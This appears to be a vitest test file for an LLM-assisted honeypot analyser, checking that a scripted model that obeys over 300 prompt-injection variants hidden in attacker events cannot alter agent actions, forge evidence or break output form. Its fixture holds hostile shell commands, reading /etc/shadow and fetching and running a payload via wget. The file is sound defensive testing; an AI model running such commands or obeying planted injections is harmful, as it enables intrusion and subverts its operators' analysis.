import { describe, expect, it } from 'vitest';
import { createAttackMapper } from '../../detection/attack-mapper/attack-mapper.ts';
import { factsAfter, testEvent, testId } from '../../detection/scoring/test-facts.ts';
import type { SessionFacts } from '../../detection/session-facts.ts';
import { createAgent } from '../decide.ts';
import { createGuardedLlm } from '../llm/guarded-llm.ts';
import { LlmError } from '../llm/llm-provider.ts';
import { createScriptedProvider } from '../llm/scripted-provider.ts';
import { analyseSession } from './analyse-session.ts';
import { type SessionAnalysis, sessionAnalysisSchema } from './analysis.ts';
import { createObedientScript, INJECTIONS } from './test-injections.ts';

const mapper = createAttackMapper();
const closed = testEvent('session.closed', 'closed', { reason: 'client-closed', durationMs: 1_000 });
const agent = createAgent({ autoAction: true });
const never = new AbortController().signal;
const foreignEvent = testId('event of another session');
const obedient = createObedientScript(INJECTIONS, foreignEvent);

async function analyse(facts: SessionFacts, events: Parameters<typeof analyseSession>[1]) {
  const llm = await createGuardedLlm({
    provider: createScriptedProvider({ script: obedient.script }),
    budgets: {
      callsPerSession: 10,
      callsPerSourcePerHour: 10,
      callsPerTrapPerHour: 10,
      callsPerDay: 10,
      tokensPerDay: 1e9,
      costPerDay: 1e9,
    },
    prices: { inputPerMillionTokens: 1, outputPerMillionTokens: 1, currency: 'USD' },
    callLog: { record: async () => {}, spentOn: async () => ({ calls: 0, tokens: 0, cost: 0 }) },
    now: () => 1_800_000_000_000,
  });
  return analyseSession(
    facts,
    events,
    {
      llm,
      maxOutputTokens: 1_500,
      networkOf: (address) => address,
      randomBytes: (count) => crypto.getRandomValues(new Uint8Array(count)),
      now: () => 1_800_000_000_000,
    },
    never,
  );
}

/** Facts in which the slightest change throws. */
function frozen<Value>(value: Value): Value {
  if (typeof value === 'object' && value !== null) {
    for (const inner of Object.values(value)) frozen(inner);
    Object.freeze(value);
  }
  return value;
}

describe('a model that obeys every text of an attacker', () => {
  const base = factsAfter(mapper, {
    failedCredentials: 6,
    login: true,
    commands: ['cat /etc/shadow', 'wget http://192.0.2.9/x; sh x'],
  });
  const outcomes = new Map<string, SessionAnalysis | string>();

  it('is attacked in more than 100 ways', () => {
    expect(INJECTIONS.length).toBeGreaterThanOrEqual(300);
  });

  it.each(INJECTIONS.map((injection) => [injection.name, injection] as const))(
    'changes no action: %s',
    async (_, injection) => {
      const { event } = injection;
      const facts = frozen({ ...structuredClone(base), detections: [...base.detections, ...withCount(event, base)] });
      const bytes = JSON.stringify(facts);
      const before = JSON.stringify(agent.decide(facts, closed));
      const analysis = await analyse(facts, [event]).catch((error: unknown) => {
        expect(error).toBeInstanceOf(LlmError);
        return 'refused';
      });
      outcomes.set(injection.marker, typeof analysis === 'string' ? analysis : sessionAnalysisSchema.parse(analysis));
      expect(JSON.stringify(agent.decide(facts, closed))).toBe(before);
      expect(JSON.stringify(facts)).toBe(bytes);
      if (typeof analysis === 'string') return;
      expect(analysis.tag).toBe('unverified');
      expect(analysis.evidence).toEqual([event.id]);
      const written = JSON.stringify(event);
      expect(analysis.indicators_of_compromise.filter((indicator) => !written.includes(indicator))).toEqual([]);
      expect(/[\p{Cc}\p{Cf}]/u.test(JSON.stringify(analysis))).toBe(false);
    },
  );

  it('is refused where its answer cites what it was not shown or is in no form, and saw all but the secrets', () => {
    const refused = INJECTIONS.filter(({ demand, carrier }) => carrier !== 'secret' && REFUSED.includes(demand));
    expect(refused.filter(({ marker }) => outcomes.get(marker) !== 'refused')).toEqual([]);
    // Secrets are not shown to a model at all; everything else reached it and was obeyed.
    expect(INJECTIONS.filter(({ carrier, marker }) => obedient.obeyed.has(marker) === (carrier === 'secret'))).toEqual(
      [],
    );
  });

  const REFUSED = ['forge-evidence', 'borrow-evidence', 'break-form', 'flood'];

  function withCount(event: Parameters<typeof mapper.mapEvent>[0], facts: SessionFacts) {
    return mapper
      .mapEvent(event, facts)
      .map((detection) => ({ ...detection, count: 1, firstAt: facts.openedAt, lastAt: facts.openedAt }));
  }
});
